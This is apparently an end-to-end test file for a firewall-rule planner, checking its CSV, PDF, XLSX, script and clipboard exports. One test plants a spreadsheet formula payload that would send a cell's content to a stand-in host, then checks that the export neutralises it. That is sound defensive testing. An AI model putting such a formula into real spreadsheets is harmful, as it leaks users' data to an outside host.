/**
 * Exports as a user gets them: from the review of a plan, each button produces its file.
 */
import { execFileSync } from 'node:child_process';
import { existsSync, readFileSync } from 'node:fs';

import type { Page } from '@playwright/test';
import { expect, test } from '@playwright/test';
import readXlsxFile from 'read-excel-file/node';

import type { Plan } from '../../src/core/plan/model';
import { makePlan } from '../support/plan-builders';
import { typicalPlan } from '../unit/core/permalink/sample-plans';

const STORAGE_KEY = 'am-firewall-planner:plan';

async function openReview(page: Page, plan: Plan = typicalPlan()) {
  await page.goto('/');
  await page.evaluate(({ key, value }) => window.localStorage.setItem(key, value), {
    key: STORAGE_KEY,
    value: JSON.stringify({ v: 1, plan }),
  });
  // A fresh document load reads the stored plan (a hash change alone would not).
  await page.goto('about:blank');
  await page.goto('/#/plan/review');
  await expect(page.getByRole('heading', { name: 'Review & export' })).toBeVisible();
}

async function download(page: Page, button: string) {
  const pending = page.waitForEvent('download');
  await page.getByRole('button', { name: button, exact: true }).click();
  const file = await pending;
  return { name: file.suggestedFilename(), bytes: readFileSync(await file.path()) };
}

test.beforeEach(async ({ page }) => {
  await openReview(page);
});

test('CSV-1 "Download CSV": BOM, CRLF, the rule sheet columns and the plan\'s real hosts', async ({
  page,
}) => {
  const { name, bytes } = await download(page, 'Download summary CSV');
  expect(name).toMatch(/\.csv$/);
  const text = bytes.toString('utf8');
  expect(text.startsWith('\uFEFF')).toBe(true);
  const lines = text.slice(1).split('\r\n');
  expect(lines[0]).toBe(
    'Rule,Environment,Source,Source host,Destination,Destination host,M365 endpoint set,Azure service tag,Protocol,Ports,Service,Description,Condition,Notes,Reference',
  );
  // The console manages both agents on TCP 4498; Qumulo reports to agent 1 on 4496.
  expect(text).toContain('am-console.corp.contoso.com');
  expect(text).toMatch(
    /Qumulo[^\r\n]*qumulo01\.corp\.contoso\.com[^\r\n]*am-agent01\.corp\.contoso\.com[^\r\n]*TCP,4496/,
  );
  expect(text).toContain('2026.11');
});

test('"Download Markdown": tables by flow and by host under a header with the plan name', async ({
  page,
}) => {
  const { name, bytes } = await download(page, 'Download Markdown');
  expect(name).toMatch(/\.md$/);
  const text = bytes.toString('utf8');
  expect(text).toContain('Contoso NYC file services');
  expect(text).toContain('## Rules by flow');
  expect(text).toContain('## Rules by host');
  expect(text).toMatch(/^\| Rule \| Environment \| Source \| Source host \|/m);
  expect(text).toContain('#/open/');
});

test('"Download PDF": a PDF whose text holds the title, a rule and the footer', async ({
  page,
}) => {
  const { name, bytes } = await download(page, 'Download PDF');
  expect(name).toMatch(/\.pdf$/);
  expect(bytes.subarray(0, 5).toString('latin1')).toBe('%PDF-');
  // Disabled while the PDF was made, the button gets the focus back (not the page's body).
  const button = page.getByRole('button', { name: 'Download PDF', exact: true });
  await expect(button).toBeEnabled();
  await expect(button).toBeFocused();
  await expect(button).not.toHaveAttribute('aria-busy', 'true');
  test.skip(!existsSync('/usr/bin/pdftotext'), 'pdftotext (poppler-utils) is not installed');
  const path = test.info().outputPath('plan.pdf');
  await import('node:fs/promises').then((fs) => fs.writeFile(path, bytes));
  const text = execFileSync('pdftotext', ['-layout', path, '-'], { encoding: 'utf8' });
  expect(text).toContain('Contoso NYC file services');
  expect(text).toContain('4498');
  expect(text).toMatch(/Page 1 of \d+/);
});

test('PDF-3 "Download PDF" fetches and embeds a font only for text outside WinAnsi', async ({
  page,
}) => {
  const fontRequests: string[] = [];
  page.on('request', (request) => {
    if (/\.ttf(\?|$)/.test(request.url())) fontRequests.push(request.url());
  });
  // The typical plan is Western European text: the standard fonts do, nothing is fetched.
  await download(page, 'Download PDF');
  expect(fontRequests).toEqual([]);

  const plan = typicalPlan();
  const [netapp, qumulo] = plan.devices;
  if (!netapp || !qumulo) throw new Error('the typical plan has two devices at least');
  netapp.name = 'Filer Łódź';
  qumulo.name = '東京 Qumulo';
  await openReview(page, plan);
  // Only the field the font cannot show is named.
  const warning = page.getByRole('alert').filter({ hasText: 'cannot show' });
  await expect(warning).toContainText('Device "東京 Qumulo" name');
  await expect(warning).not.toContainText('Łódź');
  const { bytes } = await download(page, 'Download PDF');
  expect(fontRequests).toHaveLength(2);
  test.skip(!existsSync('/usr/bin/pdftotext'), 'pdftotext (poppler-utils) is not installed');
  const path = test.info().outputPath('unicode.pdf');
  await import('node:fs/promises').then((fs) => fs.writeFile(path, bytes));
  const text = execFileSync('pdftotext', ['-layout', path, '-'], { encoding: 'utf8' });
  expect(text).toContain('Filer Łódź');
  expect(text).toContain('?? Qumulo');
});

test('"Download XLSX": a workbook of Rules, About and Hosts that reads back', async ({ page }) => {
  const { name, bytes } = await download(page, 'Download XLSX');
  expect(name).toBe('contoso-nyc-file-services-firewall-rules.xlsx');
  expect(bytes.subarray(0, 2).toString('latin1')).toBe('PK');
  const sheets = await readXlsxFile(bytes, { trim: false });
  expect(sheets.map((s) => s.sheet)).toEqual(['Rules', 'About', 'Hosts']);
  const [rules, about, hosts] = sheets.map((s) => s.data.map((row) => row.map(String)));
  expect(rules?.[0]?.slice(0, 3)).toEqual(['Rule', 'Source name', 'Source address']);
  expect(rules?.length).toBeGreaterThan(2);
  expect(rules?.flat()).toContain('am-console.corp.contoso.com');
  expect(about?.find((row) => row[0] === 'Plan')?.[1]).toBe('Contoso NYC file services');
  expect(about?.find((row) => row[0] === 'Permalink')?.[1]).toContain('#/open/');
  expect(hosts?.[0]?.[0]).toBe('Host');
});

test('"Download XLSX" of a large plan: no CSP violation, every flow a row', async ({ page }) => {
  const violations: string[] = [];
  page.on('console', (message) => {
    if (message.type() === 'error') violations.push(message.text());
  });
  page.on('pageerror', (error) => violations.push(error.message));
  // 400 devices make sheets over 160 kB, which fflate compresses in a blob: worker.
  const plan = makePlan({ agents: 20, devices: 400 });
  plan.name = 'Large plan';
  await openReview(page, plan);
  const { bytes } = await download(page, 'Download XLSX');
  expect(bytes.length).toBeGreaterThan(20_000);
  const [rules] = await readXlsxFile(bytes, { trim: false });
  expect(rules?.data.length).toBeGreaterThan(400);
  expect(violations).toEqual([]);
});

test('"Download PowerShell script" and "Download connectivity check"', async ({ page }) => {
  const script = (await download(page, 'Download PowerShell script')).bytes.toString('utf8');
  expect(script).toContain('New-NetFirewallRule');
  expect(script).toContain("-Group 'Netwrix Activity Monitor (planner)'");
  expect(script).toContain('SupportsShouldProcess');
  const check = (await download(page, 'Download connectivity check')).bytes.toString('utf8');
  expect(check).toContain('Test-NetConnection');
  expect(check).toMatch(/UDP/);
});

test('"Download firewalld script" is not available without a Linux host, and says why', async ({
  page,
}) => {
  const button = page.getByRole('button', { name: 'Download firewalld script', exact: true });
  await expect(button).toBeDisabled();
  await expect(
    page.getByText(/“Download firewalld script” is not available: This plan has no Linux host/),
  ).toBeVisible();
  await expect(button).toHaveAccessibleDescription(/This plan has no Linux host/);
  await expect(
    page.getByRole('button', { name: 'Download PowerShell script', exact: true }),
  ).toBeEnabled();
});

test('"Download firewalld script": rich rules for the Linux host of the plan', async ({ page }) => {
  const plan = typicalPlan();
  plan.console.address = '10.20.0.5';
  plan.devices.push({
    id: 'dev-7',
    environment: 'linux',
    name: 'RHEL file server',
    addresses: ['10.20.50.7'],
    tenant: '',
    agentId: '',
    options: {},
  });
  await openReview(page, plan);
  const { name, bytes } = await download(page, 'Download firewalld script');
  expect(name).toMatch(/-firewalld\.sh$/);
  const script = bytes.toString('utf8');
  expect(script.startsWith('#!/usr/bin/env bash\n')).toBe(true);
  expect(script).toContain("PLAN_HOST_ADDRESSES=('10.20.50.7')");
  // The console reaches the agent on the RHEL host on TCP 4498.
  expect(script).toContain(
    `rich_rule 'rule family="ipv4" source address="10.20.0.5" port port="4498" protocol="tcp" accept'`,
  );
});

/** Both flavours on the clipboard, read back in the page: the text and the HTML table's cells. */
async function readClipboardTable(page: Page) {
  const copied = await page.evaluate(async () => {
    const [item] = await navigator.clipboard.read();
    if (!item) return null;
    const html = await (await item.getType('text/html')).text();
    const doc = new DOMParser().parseFromString(html, 'text/html');
    return {
      types: [...item.types].sort(),
      text: await (await item.getType('text/plain')).text(),
      rows: [...doc.querySelectorAll('table tr')].map((tr) =>
        [...tr.children].map((c) => ({ tag: c.localName, text: c.textContent ?? '' })),
      ),
      elements: [...new Set([...doc.body.querySelectorAll('*')].map((e) => e.localName))].sort(),
    };
  });
  if (!copied) throw new Error('nothing on the clipboard');
  return copied;
}

test('"Copy table" puts a compact table on the clipboard as text/plain and text/html', async ({
  page,
  context,
}) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  await page.getByRole('button', { name: 'Copy table', exact: true }).click();
  await expect(page.getByText(/Copied \d+ rule\(s\) as a table: paste it/)).toBeVisible();
  const copied = await readClipboardTable(page);
  expect(copied.types).toEqual(['text/html', 'text/plain']);
  const lines = copied.text.replace(/\n$/, '').split('\n');
  // The header row first: no title line.
  expect(lines[0]).toBe('Rule\tFrom\tTo\tProtocol\tPort(s)\tPurpose');
  const textCells = lines.map((line) => line.split('\t'));
  expect(copied.rows.map((row) => row.map((c) => c.text))).toEqual(textCells);
  expect(copied.rows[0]?.map((c) => c.tag)).toEqual(['th', 'th', 'th', 'th', 'th', 'th']);
  // The console manages the agents on TCP 4498.
  const agentRow = copied.rows.find(
    (row) =>
      row[1]?.text.startsWith('Activity Monitor Console (am-console') && row[4]?.text === '4498',
  );
  expect(agentRow?.map((c) => c.tag)).toEqual(['td', 'td', 'td', 'td', 'td', 'td']);
  expect(agentRow?.[2]?.text).toContain('Agent server 1 (am-agent01.corp.contoso.com)');
  expect(agentRow?.[3]?.text).toBe('TCP');
  // The provenance closes the table.
  expect(lines.at(-1)).toContain('Contoso NYC file services');
});

test('"Copy table" puts text and an HTML table on the clipboard, formula-safe, stamped as a draft', async ({
  page,
  context,
}) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  const plan = typicalPlan();
  const hostile = '=HYPERLINK("http://evil.example/?leak="&C4,"x")';
  plan.devices = plan.devices.map((d, i) =>
    i === 1 ? { ...d, name: hostile, addresses: ['not an address!'] } : d,
  );
  await openReview(page, plan);
  await page.getByRole('button', { name: 'Copy table', exact: true }).click();
  await expect(page.getByText(/Copied \d+ rule\(s\) as a table: paste it/)).toBeVisible();
  const copied = await readClipboardTable(page);
  expect(copied.types).toEqual(['text/html', 'text/plain']);
  const lines = copied.text.replace(/\n$/, '').split('\n');
  expect(lines[0]).toMatch(/^DRAFT — \d+ plan errors?: fix (it|them) before filing$/);
  expect(lines[1]).toBe('Rule\tFrom\tTo\tProtocol\tPort(s)\tPurpose');
  expect(lines.at(-1)).toContain('Contoso NYC file services');
  const textCells = lines.map((line) => line.split('\t'));
  // The HTML holds the same table, cell for cell, and nothing else.
  expect(copied.rows.map((row) => row.map((c) => c.text))).toEqual(textCells);
  expect(copied.rows[1]?.every((c) => c.tag === 'th')).toBe(true);
  expect(copied.elements).toEqual(['table', 'tbody', 'td', 'tfoot', 'th', 'thead', 'tr']);
  const cells = textCells.flat();
  expect(cells).toContain(`'${hostile} (not an address!, INVALID) [Qumulo cluster]`);
  for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r\n\0＝＋－＠]/);
});

test('"Save plan" then "Open plan file" on the home page restores the plan', async ({ page }) => {
  const { name, bytes } = await download(page, 'Save plan');
  expect(name).toMatch(/\.json$/);
  const file = JSON.parse(bytes.toString('utf8')) as { plan: { name: string } };
  expect(file.plan.name).toBe('Contoso NYC file services');
  await page.evaluate((key) => window.localStorage.removeItem(key), STORAGE_KEY);
  await page.goto('about:blank');
  await page.goto('/');
  const chooser = page.waitForEvent('filechooser');
  await page.getByRole('button', { name: 'Open plan file' }).click();
  await (await chooser).setFiles({ name, mimeType: 'application/json', buffer: bytes });
  await expect(page).toHaveURL(/#\/plan\/review$/);
  await expect(page.getByRole('heading', { name: 'Contoso NYC file services' })).toBeVisible();
});

test('"By host": a server downloads its own script and its CSV', async ({ page }) => {
  await openReview(page);
  await page.getByRole('button', { name: 'By host' }).click();
  const agent = page.getByRole('group', { name: /^Agent server 1/ });
  // More than ten hosts: the sections start closed; the downloads are in the opened section.
  await agent.getByRole('button', { name: /^Agent server 1/, expanded: false }).click();
  const pending = page.waitForEvent('download');
  await agent.getByRole('button', { name: 'PowerShell script of this host' }).click();
  const file = await pending;
  expect(file.suggestedFilename()).toMatch(/-firewall-rules-agent-server-1\.ps1$/);
  const script = readFileSync((await file.path()) ?? '', 'utf8');
  expect(script).toContain('Agent server 1');
  expect(script).toMatch(/# Rule R\d+:/);
  if (process.env.SHOT) await page.screenshot({ path: process.env.SHOT, fullPage: false });
  const csvPending = page.waitForEvent('download');
  await agent.getByRole('button', { name: 'CSV of this host' }).click();
  const csv = await csvPending;
  expect(csv.suggestedFilename()).toMatch(/-firewall-import-agent-server-1\.csv$/);
  const rows = readFileSync((await csv.path()) ?? '', 'utf8')
    .trim()
    .split(/\r\n/);
  expect(rows[0]).toMatch(/^\uFEFF?Rule,Source name,/);
  expect(rows.length).toBeGreaterThan(1);
  for (const row of rows.slice(1)) expect(row).toContain('Agent server 1');
});

test.describe('a large plan', () => {
  // Resolving and laying out 821 rules takes seconds (minutes on a loaded machine): no test
  // here measures time, so give them room.
  test.describe.configure({ timeout: 600_000 });
  // 50 agent servers, 500 devices, the integrations on: its PDF (about 280 pages) takes seconds
  // even now that its layout is linear (issue 18), long enough to act meanwhile. With 100
  // devices it came out in about a second, sometimes before the filter below had answered.
  const large = () => {
    const plan = makePlan({ agents: 50, devices: 500, integrations: true });
    plan.name = 'Large estate';
    return plan;
  };

  test('the page keeps answering while the PDF is made (the export runs in a worker)', async ({
    page,
  }) => {
    await openReview(page, large());
    const pending = page.waitForEvent('download', { timeout: 0 });
    await page.getByRole('button', { name: 'Download PDF', exact: true }).click();
    const status = page.getByRole('status').filter({ hasText: 'Preparing the PDF…' });
    await expect(status).toBeVisible();
    // A click and typing are answered while the PDF is still being made.
    const filter = page.getByRole('textbox', { name: 'Filter rules' });
    await filter.click();
    await filter.fill('no rule has this text');
    await expect(page.getByText(/^0 rules of \d+ match the filter\.$/)).toBeVisible();
    await expect(status).toBeVisible();
    const file = await pending;
    const bytes = readFileSync(await file.path());
    expect(bytes.subarray(0, 5).toString()).toBe('%PDF-');
    expect(file.suggestedFilename()).toMatch(/^large-estate-.*\.pdf$/);
    await expect(status).toBeHidden();
  });

  test('Cancel ends the export: nothing is downloaded, the user is told', async ({ page }) => {
    await openReview(page, large());
    let downloads = 0;
    page.on('download', () => (downloads += 1));
    const button = page.getByRole('button', { name: 'Download PDF', exact: true });
    await button.click();
    const status = page.getByRole('status').filter({ hasText: 'Preparing the PDF…' });
    await status.getByRole('button', { name: 'Cancel' }).click();
    await expect(page.getByText('“Download PDF” was cancelled: nothing was saved.')).toBeVisible();
    await expect(status).toBeHidden();
    await expect(button).toBeEnabled();
    await expect(button).toBeFocused();
    expect(downloads).toBe(0);
  });
});
